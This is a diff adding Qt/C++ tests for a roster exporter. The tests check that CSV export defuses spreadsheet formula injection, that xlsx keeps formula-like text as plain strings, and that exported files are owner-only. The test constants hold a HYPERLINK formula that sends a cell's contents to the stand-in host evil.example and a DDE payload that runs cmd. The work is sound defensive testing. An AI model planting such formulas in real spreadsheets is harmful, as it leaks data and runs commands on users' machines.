@@ -9,11 +9,17 @@
 #include <QDir>
 #include <QFile>
 #include <QHash>
+#include <QSqlError>
+#include <QSqlQuery>
 #include <QTemporaryDir>
 #include <QTest>
 #include <QXmlStreamReader>
 
 #include <zip.h>
+
+#ifdef Q_OS_UNIX
+#include <sys/stat.h>
+#endif
 
 using namespace anju;
 using namespace Qt::StringLiterals;
@@ -115,6 +121,41 @@ qint64 memberId(const Household& household, const QString& name)
     return 0;
 }
 
+// The fields of one CSV line (RFC 4180: "" inside quotes is one quote).
+QStringList csvFields(const QString& line)
+{
+    QStringList fields(1);
+    bool quoted = false;
+    for (qsizetype i = 0; i < line.size(); ++i) {
+        const QChar c = line.at(i);
+        if (quoted && c == u'"' && i + 1 < line.size() && line.at(i + 1) == u'"') {
+            fields.last().append(c);
+            ++i;
+        } else if (c == u'"') {
+            quoted = !quoted;
+        } else if (c == u',' && !quoted) {
+            fields.append(QString());
+        } else {
+            fields.last().append(c);
+        }
+    }
+    return fields;
+}
+
+// Text a spreadsheet would run as a formula, as the importer accepts it in free-text columns.
+const QString Hyperlink = u"=HYPERLINK(\"http://evil.example/?\"&J4,\"点我\")"_s;
+const QString Dde = u"@SUM(1+1)*cmd|' /C calc'!A0"_s;
+
+// Read and written by its owner, nobody else.
+bool ownerOnly(const QString& path)
+{
+    const QFileDevice::Permissions others = QFileDevice::ReadGroup | QFileDevice::WriteGroup |
+                                            QFileDevice::ExeGroup | QFileDevice::ReadOther |
+                                            QFileDevice::WriteOther | QFileDevice::ExeOther;
+    const QFileDevice::Permissions p = QFile::permissions(path);
+    return (p & others) == 0 && p.testFlag(QFileDevice::ReadOwner) && p.testFlag(QFileDevice::WriteOwner);
+}
+
 QString serial(QDate date)
 {
     return QString::number(QDate(1899, 12, 30).daysTo(date));
@@ -137,6 +178,10 @@ private slots:
     void progressAndCancelLeaveNoFile_data();
     void progressAndCancelLeaveNoFile();
     void refusesWhatCannotBeWritten();
+    void csvNeutralisesFormulas();
+    void xlsxKeepsFormulaTextAsText();
+    void exportIsOwnerOnly_data();
+    void exportIsOwnerOnly();
 
 private:
     Outcome exportTo(const QString& name, qint64 siteId = 0, bool includeFormer = true);
@@ -553,6 +598,109 @@ void TestRosterExporter::refusesWhatCannotBeWritten()
     options.siteId = 999999;
     QVERIFY(!exporter.exportRoster(options));
     QVERIFY(!QFile::exists(options.path));
+}
+
+// Formula injection (OWASP "CSV Injection"): every text cell that a spreadsheet would take for a formula
+// is written with a leading ' in CSV; numbers and dates, which Anju writes itself, are left alone.
+void TestRosterExporter::csvNeutralisesFormulas()
+{
+    QSqlQuery q(m_db->db().connection());
+    const auto update = [&q](const QString& sql, const QVariantList& values) {
+        q.prepare(sql);
+        for (const QVariant& value : values)
+            q.addBindValue(value);
+        return q.exec();
+    };
+    QVERIFY(
+        update(u"UPDATE households SET origin_township = ?, origin_village = ?, phone = ? WHERE number = ?"_s,
+               {Hyperlink, Dde, u"+86 139 0739 1234"_s, u"430524001-0001"_s}));
+    QVERIFY(update(u"UPDATE households SET origin_township = ?, origin_village = ? WHERE number = ?"_s,
+                   {u"-1+1"_s, u"\t=1+1"_s, u"430524001-0002"_s}));
+    QVERIFY(update(u"UPDATE households SET origin_township = ?, origin_village = ? WHERE number = ?"_s,
+                   {u"\r=1+1"_s, u"'=1+1"_s, u"430524002-0001"_s}));
+    QVERIFY(update(u"UPDATE sites SET name = ? WHERE id = ?"_s, {u"=1+2"_s, m_secondSite}));
+    QVERIFY2(q.lastError().text().isEmpty(), qPrintable(q.lastError().text()));
+
+    const Outcome outcome = exportTo(QStringLiteral("roster.csv"));
+    QVERIFY2(outcome, qPrintable(outcome.summary()));
+    const QStringList lines = csvLines(QStringLiteral("roster.csv"));
+    QCOMPARE(lines.size(), 9);
+    const int township = int(RosterField::OriginTownship);
+    const int village = int(RosterField::OriginVillage);
+    const int site = int(RosterField::Site);
+    const QStringList first = csvFields(lines.at(1));
+    QCOMPARE(first.size(), RosterFieldCount);
+    QCOMPARE(first.at(township), u"'"_s + Hyperlink);
+    QCOMPARE(first.at(village), u"'"_s + Dde);
+    QCOMPARE(first.at(int(RosterField::HouseholdPhone)), u"'+86 139 0739 1234"_s);
+    QCOMPARE(first.at(int(RosterField::Sequence)), u"1"_s); // a number Anju writes stays a number
+    QCOMPARE(first.at(int(RosterField::BirthDate)), u"1975-04-02"_s);
+    const QStringList second = csvFields(lines.at(5));
+    QCOMPARE(second.at(township), u"'-1+1"_s);
+    QCOMPARE(second.at(village), u"'\t=1+1"_s);
+    QVERIFY2(lines.at(5).contains(u",\"'\t=1+1\","_s), qPrintable(lines.at(5))); // quoted too
+    const QStringList third = csvFields(lines.at(6));
+    QCOMPARE(third.at(township), u"'\r=1+1"_s);
+    // Text that already starts with ' before a formula character gets one more, so the importer's
+    // rule (take one ' off such a cell) gives it back exactly.
+    QCOMPARE(third.at(village), u"''=1+1"_s);
+    QCOMPARE(third.at(site), u"'=1+2"_s);
+    // No cell anywhere starts with what a spreadsheet runs.
+    for (const QString& line : lines) {
+        for (const QString& field : csvFields(line)) {
+            QVERIFY2(field.isEmpty() || !QStringLiteral("=+-@\t\r").contains(field.front()),
+                     qPrintable(field));
+        }
+    }
+}
+
+// The .xlsx writes every text as an inline string, which Excel never evaluates: no ' is added there.
+void TestRosterExporter::xlsxKeepsFormulaTextAsText()
+{
+    QSqlQuery q(m_db->db().connection());
+    q.prepare(u"UPDATE households SET origin_township = ?, origin_village = ? WHERE number = ?"_s);
+    q.addBindValue(Hyperlink);
+    q.addBindValue(Dde);
+    q.addBindValue(u"430524001-0001"_s);
+    QVERIFY2(q.exec(), qPrintable(q.lastError().text()));
+    const Outcome outcome = exportTo(QStringLiteral("roster.xlsx"));
+    QVERIFY2(outcome, qPrintable(outcome.summary()));
+    const Sheet sheet = readSheet(out(QStringLiteral("roster.xlsx")), "xl/worksheets/sheet1.xml");
+    QCOMPARE(sheet.text(u"S4"_s), Hyperlink);
+    QCOMPARE(sheet.cells.value(u"S4"_s).type, u"inlineStr"_s);
+    QCOMPARE(sheet.text(u"T4"_s), Dde);
+    QCOMPARE(sheet.cells.value(u"T4"_s).type, u"inlineStr"_s);
+    const QByteArray xml = zipPart(out(QStringLiteral("roster.xlsx")), "xl/worksheets/sheet1.xml");
+    QVERIFY(!xml.contains("<f>") && !xml.contains("<f "));
+}
+
+void TestRosterExporter::exportIsOwnerOnly_data()
+{
+    QTest::addColumn<QString>("fileName");
+    QTest::newRow("csv") << u"roster.csv"_s;
+    QTest::newRow("xlsx") << u"roster.xlsx"_s;
+}
+
+// A roster holds ID numbers and phones: only its owner may read it, whatever the umask says.
+void TestRosterExporter::exportIsOwnerOnly()
+{
+#ifdef Q_OS_UNIX
+    QFETCH(QString, fileName);
+    const mode_t previous = ::umask(022);
+    const Outcome outcome = exportTo(fileName);
+    ::umask(previous);
+    QVERIFY2(outcome, qPrintable(outcome.summary()));
+    QVERIFY2(ownerOnly(out(fileName)),
+             qPrintable(QString::number(QFile::permissions(out(fileName)).toInt(), 16)));
+    // Replacing an existing, readable file makes it owner-only too.
+    QVERIFY(QFile::setPermissions(out(fileName), QFileDevice::ReadOwner | QFileDevice::WriteOwner |
+                                                     QFileDevice::ReadGroup | QFileDevice::ReadOther));
+    QVERIFY(exportTo(fileName));
+    QVERIFY2(ownerOnly(out(fileName)),
+             qPrintable(QString::number(QFile::permissions(out(fileName)).toInt(), 16)));
+#else
+    QSKIP("Unix file modes");
+#endif
 }
 
 QTEST_GUILESS_MAIN(TestRosterExporter)
